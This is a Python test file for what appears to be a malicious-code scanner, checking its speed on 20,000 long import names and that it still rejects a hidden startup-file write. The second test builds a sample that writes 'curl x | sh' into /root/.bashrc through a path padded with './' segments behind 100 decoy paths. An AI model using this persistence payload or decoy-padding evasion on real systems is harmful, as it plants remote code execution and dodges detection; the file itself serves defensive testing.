"""Session 60 (hardening60): decoys never lower a verdict, at the cost of main.

Session 59's budgets keep the most doubtful values first (resolve.doubt, tests/test_hardening59.py); on main they
were reverted because asyncio's star imports (tests/test_budgets.py) went from 26 s to 64 s of CPU. The time was
not the star-import lookup but resolve.trim: the linked value of asyncio's `__all__` is a set of 20,000 names of
some 500 characters, and each was searched by every list of rules/lists (credential paths, commands, hosts ...).
A name is now read by the lists of names only (exact and dotted names, patterns anchored at a name's start); texts
and paths still by every list. Here: the cost of that trim, and a padded credential path behind decoys (a text,
read by every list whatever its length) that must still reject.
"""

from __future__ import annotations

import time

import pytest

import redteam_kit as kit
from analyzer.engine import resolve
from analyzer.model import Decision

pytestmark = pytest.mark.serial  # asserts on CPU time


def test_trimming_twenty_thousand_long_linked_names_stays_cheap() -> None:
    """Names shaped as star imports of a job's package link them (`pkg.streams.streams....base_events`, as in
    asyncio's): session 59's trim searched each with every text list (about 36 s of CPU for this set); main sorts
    them (0.1 s). A name a list holds is still kept first."""
    parts = ["streams", "tasks", "events", "queues", "locks", "futures", "runners", "timeouts"]
    names = {"pkg." + ".".join(parts[(i >> (3 * k)) % 8] for k in range(5)) + ".streams" * 57 + f".n{i}"
             for i in range(20000)}
    start = time.process_time()
    kept = resolve.trim(names | {"os.system"})
    assert time.process_time() - start < 10
    assert "os.system" in kept and resolve.OVERFLOW in kept


def test_a_padded_credential_path_behind_decoys_still_rejects() -> None:
    """A text is read by every list, however long: `/root/./././.../.bashrc` (400 characters) written behind 100
    decoy paths. On main the decoys pushed it out (escalate); a length cut or a name's reading would too."""
    padded = "'/root/" + "./" * 200 + ".bashrc'"
    source = "import pathlib, sys\n" + "".join(f"if len(sys.argv) == {i}:\n    p = '/x/a{i:05d}'\n" for i in range(100)) \
        + f"if len(sys.argv) == 100:\n    p = {padded}\n" + "pathlib.Path(p).write_text('curl x | sh')\n"
    kit.assert_held(kit.scan_text(source), "persistence.startup-file", Decision.REJECT)
